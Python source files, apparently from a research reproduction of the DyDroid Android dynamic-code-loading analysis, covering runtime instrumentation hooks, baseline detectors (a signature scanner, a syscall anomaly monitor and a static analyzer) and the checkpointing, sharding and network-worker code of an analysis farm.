    rule: str                         # which Table I rule produced the edge


@dataclass(frozen=True)
class BlockedFileOp:
    """A delete/rename the instrumentation silently suppressed."""

    op: str                           # "delete" | "rename"
    path: str
    app_package: str


class Instrumentation:
    """Hook bus wiring framework mediation points to analysis listeners."""

    def __init__(self, block_file_ops: bool = True) -> None:
        #: paths of dynamically loaded binaries; delete/rename on these is
        #: silently dropped while interception is pending.
        self.protected_paths: Set[str] = set()
        #: ablation switch: with blocking disabled, temp payloads vanish.
        self.block_file_ops = block_file_ops
        self.blocked_ops: List[BlockedFileOp] = []
        self._dex_listeners: List[Callable[[DexLoadEvent], None]] = []
        self._native_listeners: List[Callable[[NativeLoadEvent], None]] = []
        self._flow_listeners: List[Callable[[FlowEdge], None]] = []
        self._rejection_listeners: List[Callable[[LoadRejectedEvent], None]] = []
        self._origin_listeners: List[Callable[[CodeOriginEvent], None]] = []

    # -- subscription -----------------------------------------------------------

    def on_dex_load(self, callback: Callable[[DexLoadEvent], None]) -> None:
        self._dex_listeners.append(callback)

    def on_native_load(self, callback: Callable[[NativeLoadEvent], None]) -> None:
        self._native_listeners.append(callback)

    def on_flow_edge(self, callback: Callable[[FlowEdge], None]) -> None:
        self._flow_listeners.append(callback)

    def on_load_rejected(self, callback: Callable[[LoadRejectedEvent], None]) -> None:
        self._rejection_listeners.append(callback)

    def on_code_origin(self, callback: Callable[[CodeOriginEvent], None]) -> None:
        self._origin_listeners.append(callback)

    # -- emission (called by the framework implementations) -----------------------

    def emit_dex_load(self, event: DexLoadEvent) -> None:
        if self.block_file_ops:
            self.protected_paths.update(event.dex_paths)
        for callback in self._dex_listeners:
            callback(event)

    def emit_native_load(self, event: NativeLoadEvent) -> None:
        if self.block_file_ops:
            self.protected_paths.add(event.lib_path)
        for callback in self._native_listeners:
            callback(event)

    def emit_flow(self, src: FlowNode, dst: FlowNode, rule: str) -> None:
        edge = FlowEdge(src=src, dst=dst, rule=rule)
        for callback in self._flow_listeners:
            callback(edge)

    def emit_load_rejected(self, event: LoadRejectedEvent) -> None:
        for callback in self._rejection_listeners:
            callback(event)

    def emit_code_origin(self, event: CodeOriginEvent) -> None:
        for callback in self._origin_listeners:
            callback(event)

    # -- file-op mediation ----------------------------------------------------------

    def intercept_file_op(self, op: str, path: str, app_package: str) -> bool:
        """True when the operation must be silently suppressed."""
        if self.block_file_ops and path in self.protected_paths:
            self.blocked_ops.append(BlockedFileOp(op=op, path=path, app_package=app_package))
            return True
        return False

    def release_path(self, path: str) -> None:
        """Stop protecting a path once its contents have been dumped."""
        self.protected_paths.discard(path)
