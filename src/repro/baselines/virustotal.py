"""A VirusTotal-style multi-engine signature scanner (baseline).

The paper submitted the malicious samples it intercepted to VirusTotal
"(a service that integrates various antivirus products) for scanning and it
failed to detect them" -- because AV engines match signatures of *known*
binaries while DCL delivers fresh variants.

The reproduction models an ensemble of signature engines over a database of
previously seen samples:

- **hash engines** match exact payload digests;
- **pattern engines** match byte substrings extracted from known samples
  (classic AV string signatures).

Variants produced by our family generators differ in literals and
identifiers, so both engine classes miss them -- while DroidNative's
structural ACFG matching catches them.  That contrast is the measurement.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple, Union

from repro.android.dex import DexFile
from repro.android.nativelib import NativeLibrary

Binary = Union[DexFile, NativeLibrary]


def _binary_bytes(binary: Binary) -> bytes:
    return binary.to_bytes()


@dataclass(frozen=True)
class ScanResult:
    """One ensemble verdict: which engines flagged the sample."""

    sha256: str
    detections: Tuple[str, ...]   # engine names that matched

    @property
    def is_detected(self) -> bool:
        return bool(self.detections)

    @property
    def detection_ratio(self) -> str:
        return "{}/{}".format(len(self.detections), VirusTotalScanner.N_ENGINES)


class VirusTotalScanner:
    """An ensemble of hash- and string-signature engines."""

    #: the ensemble size reported in detection ratios (engines share the
    #: two signature databases; ratios mimic the service's output format).
    N_ENGINES = 8

    def __init__(self, signature_length: int = 48) -> None:
        self.signature_length = signature_length
        self._known_hashes: Dict[str, str] = {}
        self._string_signatures: Dict[bytes, str] = {}

    # -- database maintenance ----------------------------------------------------

    def submit_known_sample(self, label: str, binary: Binary) -> None:
        """Add one confirmed-malicious sample to the engine databases."""
        data = _binary_bytes(binary)
        digest = hashlib.sha256(data).hexdigest()
        self._known_hashes[digest] = label
        signature = self._extract_signature(data)
        if signature is not None:
            self._string_signatures[signature] = label

    def _extract_signature(self, data: bytes) -> Optional[bytes]:
        """A distinguishing substring of the sample (string signature).

        AV string signatures anchor on sample-specific artifacts -- C2
        endpoints, embedded keys -- not on boilerplate every binary of the
        format shares.  We anchor on the sample's first embedded URL; a
        variant pointing at a different C2 therefore evades the signature,
        exactly the weakness the paper's experiment demonstrates.
        """
        anchor = data.find(b"http://")
        if anchor == -1:
            anchor = data.find(b"https://")
        if anchor == -1:
            return None
        return data[anchor: anchor + self.signature_length]

    @property
    def database_size(self) -> int:
        return len(self._known_hashes)

    # -- scanning ------------------------------------------------------------------

    def scan(self, binary: Binary) -> ScanResult:
        data = _binary_bytes(binary)
        digest = hashlib.sha256(data).hexdigest()
        detections: List[str] = []
        if digest in self._known_hashes:
            detections.extend(
                "hash-engine-{}".format(i) for i in range(self.N_ENGINES // 2)
            )
        for signature, label in self._string_signatures.items():
            if signature in data:
                detections.extend(
                    "pattern-engine-{}".format(i) for i in range(self.N_ENGINES // 2)
                )
                break
        return ScanResult(sha256=digest, detections=tuple(detections))

    def scan_all(self, binaries: Sequence[Binary]) -> List[ScanResult]:
        return [self.scan(binary) for binary in binaries]
