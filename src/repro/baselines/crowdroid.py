"""Crowdroid-style low-level behavioural monitoring (baseline).

Crowdroid (Burguera et al., SPSM 2011) crowd-sources per-app syscall-count
vectors and clusters them to separate benign from malicious behaviour.  Its
structural limits, which the paper calls out: syscall interposition loses
Android-middleware context, so it "cannot differentiate the bytecode in the
original application with that additionally loaded", and it never yields
the loaded binary itself.

Reproduced contract: consume only the coarse observables a syscall tracer
would see (file IO counts, network fetches, SMS, uploads), build per-app
vectors, and classify by distance to the centroid of known-benign runs --
a 2-means-style split implemented with numpy.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Sequence

import numpy as np

from repro.dynamic.engine import DynamicReport
from repro.runtime.device import Device

VECTOR_FIELDS = ("reads", "writes", "deletes", "renames", "fetches", "sms", "uploads")


@dataclass(frozen=True)
class SyscallVector:
    """One monitored run reduced to syscall-ish counters."""

    package: str
    reads: int
    writes: int
    deletes: int
    renames: int
    fetches: int
    sms: int
    uploads: int

    def as_array(self) -> np.ndarray:
        return np.array([getattr(self, f) for f in VECTOR_FIELDS], dtype=float)

    @classmethod
    def from_run(cls, package: str, device: Device) -> "SyscallVector":
        """Capture the counters a tracer would have recorded on ``device``."""
        ops = device.vfs.op_counts
        return cls(
            package=package,
            reads=ops["read"],
            writes=ops["write"],
            deletes=ops["delete"],
            renames=ops["rename"],
            fetches=len(device.network.fetch_log),
            sms=len(device.sms_sent),
            uploads=len(device.network.exfil_log),
        )

    @classmethod
    def from_report(cls, report: DynamicReport) -> "SyscallVector":
        """Approximate capture from a finished DynamicReport (device gone)."""
        return cls(
            package=report.package,
            reads=len(report.intercepted) * 2,
            writes=len(report.intercepted),
            deletes=0,
            renames=0,
            fetches=sum(1 for _ in report.tracker.url_nodes()),
            sms=0,
            uploads=len(report.exfiltrated),
        )


class CrowdroidMonitor:
    """Distance-to-benign-centroid anomaly detection over syscall vectors."""

    def __init__(self, threshold_sigmas: float = 3.0) -> None:
        self.threshold_sigmas = threshold_sigmas
        self._centroid: Optional[np.ndarray] = None
        self._scale: Optional[np.ndarray] = None
        self._cutoff: Optional[float] = None

    def fit(self, benign_vectors: Sequence[SyscallVector]) -> None:
        if not benign_vectors:
            raise ValueError("need at least one benign vector")
        matrix = np.vstack([v.as_array() for v in benign_vectors])
        self._centroid = matrix.mean(axis=0)
        self._scale = matrix.std(axis=0)
        self._scale[self._scale == 0.0] = 1.0
        distances = np.linalg.norm((matrix - self._centroid) / self._scale, axis=1)
        self._cutoff = distances.mean() + self.threshold_sigmas * max(
            distances.std(), 1e-9
        )

    def distance(self, vector: SyscallVector) -> float:
        if self._centroid is None:
            raise RuntimeError("monitor not fitted")
        return float(
            np.linalg.norm((vector.as_array() - self._centroid) / self._scale)
        )

    def is_anomalous(self, vector: SyscallVector) -> bool:
        return self.distance(vector) > (self._cutoff or 0.0)

    def classify(self, vectors: Sequence[SyscallVector]) -> List[bool]:
        return [self.is_anomalous(v) for v in vectors]

    # -- the structural limitation, stated as API ------------------------------

    @staticmethod
    def attributes_to_loaded_code() -> bool:
        """Syscall-level monitoring cannot say *which code* misbehaved."""
        return False

    @staticmethod
    def produces_payload_sample() -> bool:
        """No binary is ever captured for offline analysis."""
        return False
