"""Baseline systems the paper compares against (Section VI).

Implemented so the benches can contrast DyDroid's hybrid design with its
related work on the same inputs:

- :mod:`repro.baselines.riskranker` -- RiskRanker-style *static* DCL
  analysis: flags risky apps from the decompiled IR and can analyze locally
  packaged payloads, but "is not able to analyze code loaded from sources
  other than local package, e.g. remote fetch";
- :mod:`repro.baselines.crowdroid` -- Crowdroid-style low-level syscall
  monitoring: sees coarse runtime behaviour but "cannot differentiate the
  bytecode in the original application with that additionally loaded" and
  never produces the loaded binary for offline analysis;
- :mod:`repro.baselines.virustotal` -- a multi-engine signature scanner:
  exact hashes + string signatures of known samples, which fresh DCL
  variants evade (the paper's VirusTotal submission experiment).
"""

from repro.baselines.crowdroid import CrowdroidMonitor, SyscallVector
from repro.baselines.riskranker import RiskRankerStatic, StaticRiskReport
from repro.baselines.virustotal import ScanResult, VirusTotalScanner

__all__ = [
    "CrowdroidMonitor",
    "RiskRankerStatic",
    "ScanResult",
    "StaticRiskReport",
    "SyscallVector",
    "VirusTotalScanner",
]
