"""RiskRanker-style purely static DCL analysis (baseline).

RiskRanker (Grace et al., MobiSys 2012) detects DCL statically and runs a
Dalvik code execution scheme over payloads it can find *inside the
package*.  Reproduced contract:

- flags apps whose IR references DCL APIs (same signal as our prefilter);
- scans every locally packaged payload that parses as DEX with the trained
  malware matcher;
- is structurally blind to (a) code fetched remotely at runtime, (b)
  encrypted payloads, and (c) anything only materialized on-device -- the
  gap DyDroid's dynamic interception closes.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from repro.android.apk import Apk
from repro.android.dex import DexFile, DexFormatError, is_dex_bytes
from repro.static_analysis.decompiler import DecompilationError, Decompiler
from repro.static_analysis.malware.droidnative import Detection, DroidNative
from repro.static_analysis.prefilter import prefilter


@dataclass
class StaticRiskReport:
    """What a static-only analysis concludes about one app."""

    package: str
    decompile_failed: bool = False
    flags_dcl: bool = False
    #: (entry path, detection) for packaged payloads the scanner could parse.
    payload_verdicts: List[Tuple[str, Optional[Detection]]] = field(default_factory=list)
    #: packaged entries that look like payload containers but cannot be
    #: analyzed (encrypted blobs, unknown formats).
    opaque_payloads: List[str] = field(default_factory=list)

    @property
    def detected_malware(self) -> List[Tuple[str, Detection]]:
        return [(p, d) for p, d in self.payload_verdicts if d is not None]


class RiskRankerStatic:
    """The static baseline: decompile, flag, scan local payloads."""

    def __init__(self, detector: DroidNative) -> None:
        self.detector = detector
        self.decompiler = Decompiler(strict=True)

    def analyze(self, apk: Apk) -> StaticRiskReport:
        report = StaticRiskReport(package=_safe_package(apk))
        try:
            program = self.decompiler.decompile(apk)
        except DecompilationError:
            report.decompile_failed = True
            return report

        report.flags_dcl = prefilter(program).has_any_dcl
        if not report.flags_dcl:
            return report

        # "Dalvik code execution scheme" over locally packaged payloads.
        for path, data in apk.asset_entries():
            if is_dex_bytes(data):
                try:
                    dex = DexFile.from_bytes(data)
                except DexFormatError:
                    report.opaque_payloads.append(path)
                    continue
                report.payload_verdicts.append((path, self.detector.detect(dex)))
            elif path.endswith((".jar", ".zip", ".dex", ".apk", ".bin", ".dat")):
                report.opaque_payloads.append(path)
        return report


def _safe_package(apk: Apk) -> str:
    try:
        return apk.package
    except Exception:
        return "<unparseable>"
