"""The checkpoint journal: append-only JSONL making farm runs resumable.

Line 1 is a header binding the journal to its run inputs::

    {"kind": "header", "version": 1, "corpus_seed": 7, "n_apps": 600,
     "fingerprint": "<sha256[:16] of (seed, n_apps, config)>"}

then one line per settled app, in completion order::

    {"kind": "result", "index": 17, "package": "com.a.b", "retries": 0,
     "build_s": 0.01, "analyze_s": 0.12, "analysis": {...AppAnalysis...}}
    {"kind": "quarantine", "index": 23, "package": "com.c.d",
     "error": "...", "attempts": 3}

Appends are flushed line-by-line, so a killed run loses at most the app in
flight.  On resume, a torn final line (the kill landed mid-write) is
dropped; corruption anywhere earlier is an error.  Quarantined apps are
remembered too -- resuming does not re-run an app that already proved
poisonous.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Dict, Optional, Set, Union

from repro.core.config import DyDroidConfig
from repro.farm.jobs import AppResult, QuarantineRecord, run_fingerprint

try:  # POSIX only; elsewhere single-writer enforcement degrades to trust.
    import fcntl
except ImportError:  # pragma: no cover - non-POSIX fallback
    fcntl = None

JOURNAL_VERSION = 1


class CheckpointError(ValueError):
    """The journal is unreadable or belongs to a different run."""


class CheckpointJournal:
    """Single-writer journal owned by the coordinator process.

    Crash-consistency audit (vs. the sibling-torn-tail hole fixed in
    :meth:`repro.store.verdicts.VerdictStore._publish`): that bug needs
    *multiple processes appending through independent handles*, where one
    dies mid-line and the survivors keep writing.  This journal never has
    siblings -- exactly one coordinator owns the handle, worker processes
    ship results back instead of writing here, and the network farm keeps
    that shape (workers POST results; only the coordinator appends).  A
    coordinator killed mid-write is healed by the resume path's torn-tail
    truncation before any new append.  The remaining way to violate the
    invariant is operator error -- two coordinators resuming the same
    checkpoint -- so the handle takes a non-blocking exclusive ``flock``
    for its whole lifetime and a second opener fails fast with
    :class:`CheckpointError` instead of silently interleaving.
    """

    def __init__(
        self,
        path: Union[str, Path],
        corpus_seed: int,
        n_apps: int,
        config: DyDroidConfig,
        resume: bool = False,
    ) -> None:
        self.path = Path(path)
        self.fingerprint = run_fingerprint(corpus_seed, n_apps, config)
        self.corpus_seed = corpus_seed
        self.n_apps = n_apps
        #: index -> serialized AppAnalysis restored from a previous run.
        self.completed: Dict[int, Dict[str, object]] = {}
        #: index -> quarantine line restored from a previous run.
        self.quarantined: Dict[int, Dict[str, object]] = {}

        # Open append-mode and lock *before* any truncation ("w" would
        # wipe a live sibling's journal before the ownership check ran).
        if resume:
            self._load()
            self._handle = self.path.open("a", encoding="utf-8")
            self._lock_exclusive()
            self._truncate_torn_tail()
        else:
            self.path.parent.mkdir(parents=True, exist_ok=True)
            self._handle = self.path.open("a", encoding="utf-8")
            self._lock_exclusive()
            self._handle.truncate(0)
            self._write_line(
                {
                    "kind": "header",
                    "version": JOURNAL_VERSION,
                    "corpus_seed": corpus_seed,
                    "n_apps": n_apps,
                    "fingerprint": self.fingerprint,
                }
            )

    def _lock_exclusive(self) -> None:
        """Claim sole ownership of the journal for this handle's lifetime."""
        if fcntl is None:  # pragma: no cover - non-POSIX fallback
            return
        try:
            fcntl.flock(self._handle.fileno(), fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            self._handle.close()
            raise CheckpointError(
                "checkpoint {} is already owned by a live coordinator; "
                "refusing to double-write it".format(self.path)
            )

    # -- restore ---------------------------------------------------------------

    def _load(self) -> None:
        if not self.path.exists():
            raise CheckpointError("no checkpoint to resume at {}".format(self.path))
        lines = self.path.read_text(encoding="utf-8").splitlines()
        if not lines:
            raise CheckpointError("empty checkpoint {}".format(self.path))
        header = self._parse(lines[0], line_no=1, final=False)
        self._check_header(header)
        last = len(lines)
        kept = lines
        for line_no, line in enumerate(lines[1:], start=2):
            entry = self._parse(line, line_no=line_no, final=line_no == last)
            if entry is None:
                kept = lines[:-1]  # torn final line from a mid-write kill
                continue
            if entry.get("kind") == "result":
                index = self._require(entry, "index", line_no)
                self.completed[index] = self._require(entry, "analysis", line_no)
            elif entry.get("kind") == "quarantine":
                self.quarantined[self._require(entry, "index", line_no)] = entry
            else:
                raise CheckpointError(
                    "{}:{}: unknown entry kind {!r}".format(
                        self.path, line_no, entry.get("kind")
                    )
                )
        # Byte length of the journal's valid prefix: every kept line plus
        # its newline.  Appending after a torn tail without truncating to
        # this would glue the next entry onto the partial line -- fine for
        # THIS load, fatal for the next one (the merged line is no longer
        # final, so _parse escalates it to a hard CheckpointError).
        self._valid_bytes = len(
            "".join(line + "\n" for line in kept).encode("utf-8")
        )

    def _truncate_torn_tail(self) -> None:
        if self._valid_bytes < self.path.stat().st_size:
            with self.path.open("r+b") as handle:
                handle.truncate(self._valid_bytes)

    def _require(self, entry: dict, key: str, line_no: int):
        if key not in entry:
            raise CheckpointError(
                "{}:{}: {} entry is missing required field {!r}".format(
                    self.path, line_no, entry.get("kind"), key
                )
            )
        return entry[key]

    def _parse(self, line: str, line_no: int, final: bool) -> Optional[dict]:
        try:
            entry = json.loads(line)
        except json.JSONDecodeError:
            if final:
                return None
            raise CheckpointError("{}:{}: corrupt journal line".format(self.path, line_no))
        if not isinstance(entry, dict):
            raise CheckpointError("{}:{}: journal line is not an object".format(self.path, line_no))
        return entry

    def _check_header(self, header: Optional[dict]) -> None:
        if header is None or header.get("kind") != "header":
            raise CheckpointError("{} does not start with a journal header".format(self.path))
        if header.get("version") != JOURNAL_VERSION:
            raise CheckpointError(
                "unsupported journal version {}".format(header.get("version"))
            )
        if header.get("fingerprint") != self.fingerprint:
            raise CheckpointError(
                "checkpoint {} was written for a different run "
                "(seed/corpus size/pipeline config changed)".format(self.path)
            )

    # -- append ---------------------------------------------------------------

    def _write_line(self, entry: dict) -> None:
        self._handle.write(json.dumps(entry, sort_keys=True) + "\n")
        self._handle.flush()

    def append_result(self, result: AppResult) -> None:
        self._write_line(
            {
                "kind": "result",
                "index": result.index,
                "package": result.package,
                "retries": result.retries,
                "build_s": result.build_s,
                "analyze_s": result.analyze_s,
                "analysis": result.analysis,
            }
        )

    def append_quarantine(self, record: QuarantineRecord) -> None:
        self._write_line(
            {
                "kind": "quarantine",
                "index": record.index,
                "package": record.package,
                "error": record.error,
                "attempts": record.attempts,
            }
        )

    # -- queries ---------------------------------------------------------------

    def settled_indices(self) -> Set[int]:
        """Indices a resumed run must not re-analyze."""
        return set(self.completed) | set(self.quarantined)

    def close(self) -> None:
        self._handle.close()

    def __enter__(self) -> "CheckpointJournal":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()
