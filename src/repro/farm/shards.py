"""Deterministic shard planning: partition a corpus into schedulable units.

A shard is nothing but a set of corpus indices; the corpus itself is
rematerialized inside the worker from ``(seed, n_apps, index)``.  Two
strategies are provided:

- ``contiguous`` (default) -- balanced blocks ``[0..k), [k..2k), ...``;
  cache-friendly when measuring an exported corpus directory in order;
- ``round-robin`` -- index ``i`` goes to shard ``i % n_shards``; evens out
  corpora whose expensive apps cluster (e.g. all malware planted early).

Both are pure functions of ``(n_apps, n_shards)``, so a resumed run plans
the exact same shards as the interrupted one.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Tuple

STRATEGIES = ("contiguous", "round-robin")


@dataclass(frozen=True)
class ShardSpec:
    """One planned unit of work: which corpus indices it covers."""

    shard_id: int
    indices: Tuple[int, ...]

    def __len__(self) -> int:
        return len(self.indices)


def plan_shards(
    n_apps: int, n_shards: int, strategy: str = "contiguous"
) -> Tuple[ShardSpec, ...]:
    """Partition ``range(n_apps)`` into at most ``n_shards`` non-empty shards."""
    if n_apps < 0:
        raise ValueError("n_apps must be >= 0")
    if n_shards < 1:
        raise ValueError("n_shards must be >= 1")
    if strategy not in STRATEGIES:
        raise ValueError("unknown strategy {!r}; pick one of {}".format(strategy, STRATEGIES))

    n_shards = min(n_shards, n_apps) or 1
    if strategy == "round-robin":
        groups = [tuple(range(shard, n_apps, n_shards)) for shard in range(n_shards)]
    else:
        base, extra = divmod(n_apps, n_shards)
        groups, start = [], 0
        for shard in range(n_shards):
            size = base + (1 if shard < extra else 0)
            groups.append(tuple(range(start, start + size)))
            start += size
    return tuple(
        ShardSpec(shard_id=shard_id, indices=indices)
        for shard_id, indices in enumerate(groups)
        if indices
    )
