"""Combine per-app results from any mix of shards and checkpoints.

The determinism guarantee lives here: results are deserialized and ordered
by corpus index before aggregation, so ``merge({shards}) == serial run``
for every shard count, shard strategy, worker count, and completion order
(and for any split between freshly analyzed and checkpoint-restored apps).
"""

from __future__ import annotations

from typing import Dict, Mapping

from repro.core.report import AppAnalysis, MeasurementReport


def merge_serialized(analyses_by_index: Mapping[int, Dict[str, object]]) -> MeasurementReport:
    """index -> serialized ``AppAnalysis`` dicts, merged into one report."""
    apps = [
        AppAnalysis.from_dict(analyses_by_index[index])
        for index in sorted(analyses_by_index)
    ]
    return MeasurementReport(apps=apps)


def merge_reports(*reports: MeasurementReport) -> MeasurementReport:
    """Merge already-deserialized partial reports (corpus-index ordered)."""
    return MeasurementReport.merge(reports)
