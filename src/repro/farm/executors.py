"""Executors: process-based for throughput, synchronous for tests.

Both expose the subset of the :mod:`concurrent.futures` executor protocol
the coordinator uses (``submit`` returning a real ``Future``, ``shutdown``,
context manager), so ``as_completed`` works identically over either.
"""

from __future__ import annotations

from concurrent.futures import Future, ProcessPoolExecutor


class SyncExecutor:
    """Runs each submitted job immediately in the calling process.

    Deterministic, debuggable (breakpoints and coverage work), and free of
    fork overhead -- the right backend for tests and ``--workers 1``.
    """

    def submit(self, fn, *args, **kwargs) -> Future:
        future: Future = Future()
        try:
            future.set_result(fn(*args, **kwargs))
        except BaseException as exc:  # mirror executor behavior: deliver via future
            future.set_exception(exc)
        return future

    def shutdown(self, wait: bool = True, **_kwargs) -> None:
        pass

    def __enter__(self) -> "SyncExecutor":
        return self

    def __exit__(self, *exc_info) -> None:
        self.shutdown()


def create_executor(workers: int):
    """In-process below 2 workers, a process pool otherwise."""
    if workers < 0:
        raise ValueError("workers must be >= 0")
    if workers <= 1:
        return SyncExecutor()
    return ProcessPoolExecutor(max_workers=workers)
