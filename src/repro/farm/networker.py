"""The network farm worker: ``repro farm join`` leasing shards over HTTP.

A join worker is the stateless half of :mod:`repro.farm.netcoord`: it
fetches the run descriptor, proves it reconstructs the same run
fingerprint from the wire-serialized pipeline config (the resume
contract, extended over the network), then loops lease -> analyze ->
complete until the coordinator reports the ledger drained.  Shards
execute through the same :func:`repro.farm.worker.run_shard` and
executor stack as the local farm, so one node with ``--workers N`` is
exactly an N-process farm whose coordinator happens to live elsewhere.

Lease renewal rides the existing per-app heartbeats: ``run_shard``
atomically rewrites ``heartbeat-<shard>.json`` after every settled app
(when a telemetry dir is set), and a background renewal thread reads
that file and POSTs its ``completed/total`` progress with each
``/v1/renew`` -- so the coordinator's status endpoint shows per-app
progress for every node in the fleet without any new instrumentation in
the analysis path.  A worker that dies simply stops renewing; nothing
here needs cleanup for the fleet to recover (the coordinator's reaper
re-queues the lease).

Completion is shipped optimistically even if a renewal reported the
lease lost: the ledger is first-completion-wins, so the attempt either
lands (our work counts) or returns ``accepted: false`` (someone else
finished first; we drop it and lease the next shard).
"""

from __future__ import annotations

import os
import socket
import threading
import time
from concurrent.futures import FIRST_COMPLETED, Future, wait
from dataclasses import dataclass, field, replace
from typing import Dict, List, Optional, Tuple

from repro.farm.executors import create_executor
from repro.farm.flight import read_heartbeats
from repro.farm.jobs import (
    ShardJob,
    config_from_wire,
    run_fingerprint,
    shard_job_from_wire,
    shard_result_to_wire,
)
from repro.farm.worker import run_shard
from repro.service.client import ServiceClient, ServiceClientError

__all__ = ["FarmJoinError", "JoinSummary", "join_farm"]


class FarmJoinError(RuntimeError):
    """The coordinator is unreachable or describes a different run."""


@dataclass
class JoinSummary:
    """What one join node did before the coordinator drained."""

    worker: str
    shards_completed: int = 0
    shards_stale: int = 0
    shards_failed: int = 0
    apps_analyzed: int = 0
    apps_quarantined: int = 0
    lost_leases: int = 0
    wall_s: float = 0.0
    errors: List[str] = field(default_factory=list)


def default_worker_id() -> str:
    return "{}:{}".format(socket.gethostname(), os.getpid())


class _Renewer:
    """Background lease-renewal thread over all of a node's active leases."""

    def __init__(
        self,
        client: ServiceClient,
        worker: str,
        lease_s: float,
        telemetry_dir: Optional[str],
    ) -> None:
        self._client = client
        self._worker = worker
        #: renew at a third of the lease so two consecutive losses still
        #: leave margin before expiry.
        self._interval_s = max(0.05, lease_s / 3.0)
        self._telemetry_dir = telemetry_dir
        self._active: Dict[int, ShardJob] = {}
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self.lost = 0
        self._thread = threading.Thread(
            target=self._loop, name="repro-farm-renewer", daemon=True
        )

    def start(self) -> None:
        self._thread.start()

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5.0)

    def track(self, entry_id: int, job: ShardJob) -> None:
        with self._lock:
            self._active[entry_id] = job

    def untrack(self, entry_id: int) -> None:
        with self._lock:
            self._active.pop(entry_id, None)

    def _progress_for(self, job: ShardJob) -> Dict[str, int]:
        if not self._telemetry_dir:
            return {}
        heartbeat = read_heartbeats(self._telemetry_dir).get(job.shard_id)
        if not heartbeat:
            return {}
        return {
            "completed": int(heartbeat.get("completed", 0)),
            "total": int(heartbeat.get("total", len(job.indices))),
        }

    def _loop(self) -> None:
        while not self._stop.wait(self._interval_s):
            with self._lock:
                active = list(self._active.items())
            for entry_id, job in active:
                try:
                    response = self._client.request(
                        "POST",
                        "/v1/renew",
                        {
                            "worker": self._worker,
                            "entry_id": entry_id,
                            "progress": self._progress_for(job),
                        },
                    )
                except ServiceClientError:
                    continue  # coordinator briefly unreachable; retry next tick
                if not response.get("ok"):
                    # Lease lost (expired and possibly re-granted).  Keep
                    # computing: completion is first-wins, so the work may
                    # still land; the counter records the near-miss.
                    self.lost += 1
                    self.untrack(entry_id)


def join_farm(
    host: str,
    port: int,
    workers: int = 1,
    worker_id: Optional[str] = None,
    telemetry_dir: Optional[str] = None,
    poll_s: float = 0.5,
    request_timeout_s: float = 30.0,
) -> JoinSummary:
    """Lease and analyze shards from ``host:port`` until the run drains.

    ``workers`` bounds concurrent leases (and local analysis processes,
    via the same executor the local farm uses).  ``telemetry_dir`` is
    node-local: flight recordings, heartbeats, and renewal progress all
    come from there, so two nodes must not share one (they may freely
    share the verdict store the coordinator names, which is the point).
    """
    client = ServiceClient(host, port, timeout=request_timeout_s)
    worker = worker_id or default_worker_id()
    started = time.perf_counter()
    summary = JoinSummary(worker=worker)

    try:
        run = client.request("GET", "/v1/run")
    except ServiceClientError as exc:
        raise FarmJoinError("cannot fetch run descriptor: {}".format(exc))
    config = config_from_wire(run.get("pipeline") or {})
    expected = run.get("fingerprint")
    actual = run_fingerprint(run.get("corpus_seed", 0), run.get("n_apps", 0), config)
    if actual != expected:
        raise FarmJoinError(
            "run fingerprint mismatch (coordinator {} != reconstructed {}): "
            "protocol or config drift between nodes".format(expected, actual)
        )
    lease_s = float(run.get("lease_s") or 15.0)

    renewer = _Renewer(client, worker, lease_s, telemetry_dir)
    renewer.start()
    drained = False
    active: Dict[int, Tuple[ShardJob, Future]] = {}
    try:
        with create_executor(max(1, workers)) as executor:
            while True:
                # Top up to one lease per local worker slot.
                while not drained and len(active) < max(1, workers):
                    response = _lease(client, worker)
                    if response is None or response.get("done"):
                        drained = response is None or bool(response.get("done"))
                        if drained:
                            break
                    if response.get("empty"):
                        break
                    job = shard_job_from_wire(response["shard"])
                    job = replace(job, flight_dir=telemetry_dir)
                    entry_id = int(response["entry_id"])
                    renewer.track(entry_id, job)
                    # NB: with workers=1 the SyncExecutor runs the shard
                    # inline here; the renewer thread keeps the lease
                    # alive through the whole synchronous analysis.
                    active[entry_id] = (job, executor.submit(run_shard, job))
                if not active:
                    if drained:
                        break
                    time.sleep(poll_s)
                    continue
                wait(
                    [future for _, future in active.values()],
                    timeout=poll_s,
                    return_when=FIRST_COMPLETED,
                )
                for entry_id, (job, future) in list(active.items()):
                    if not future.done():
                        continue
                    del active[entry_id]
                    renewer.untrack(entry_id)
                    try:
                        result = future.result()
                    except Exception as exc:  # worker process died mid-shard
                        summary.shards_failed += 1
                        summary.errors.append(str(exc))
                        _post_settled(
                            client,
                            "/v1/fail",
                            {
                                "worker": worker,
                                "entry_id": entry_id,
                                "error": str(exc),
                            },
                        )
                        continue
                    response = _post_settled(
                        client,
                        "/v1/complete",
                        {
                            "worker": worker,
                            "entry_id": entry_id,
                            "result": shard_result_to_wire(result),
                        },
                    )
                    if response is None:
                        drained = True  # coordinator gone; nothing to ship to
                    elif response.get("accepted"):
                        summary.shards_completed += 1
                        summary.apps_analyzed += len(result.results)
                        summary.apps_quarantined += len(result.quarantined)
                    else:
                        summary.shards_stale += 1
                    if response is not None and response.get("done"):
                        drained = True
    finally:
        renewer.stop()
        summary.lost_leases = renewer.lost
        summary.wall_s = time.perf_counter() - started
    return summary


def _lease(client: ServiceClient, worker: str) -> Optional[Dict[str, object]]:
    """One lease attempt; None means the coordinator is gone (treat as done)."""
    try:
        return client.request("POST", "/v1/lease", {"worker": worker})
    except ServiceClientError:
        return None


def _post_settled(
    client: ServiceClient,
    path: str,
    payload: Dict[str, object],
    attempts: int = 3,
    backoff_s: float = 0.2,
) -> Optional[Dict[str, object]]:
    """Ship a completion/failure with brief retries; None if unreachable.

    A completed shard is minutes of analysis -- worth a few retries over
    a transient network blip -- but the coordinator exiting after the
    last shard is normal, so persistent unreachability is not an error.
    """
    for attempt in range(attempts):
        try:
            return client.request("POST", path, payload)
        except ServiceClientError:
            if attempt + 1 < attempts:
                time.sleep(backoff_s * (attempt + 1))
    return None
