"""Flight recorder + heartbeats: post-mortems without reruns.

Two shapes of live farm telemetry, both landing next to the checkpoint
journal:

- **flight recorder** (worker side): each shard keeps its last N events
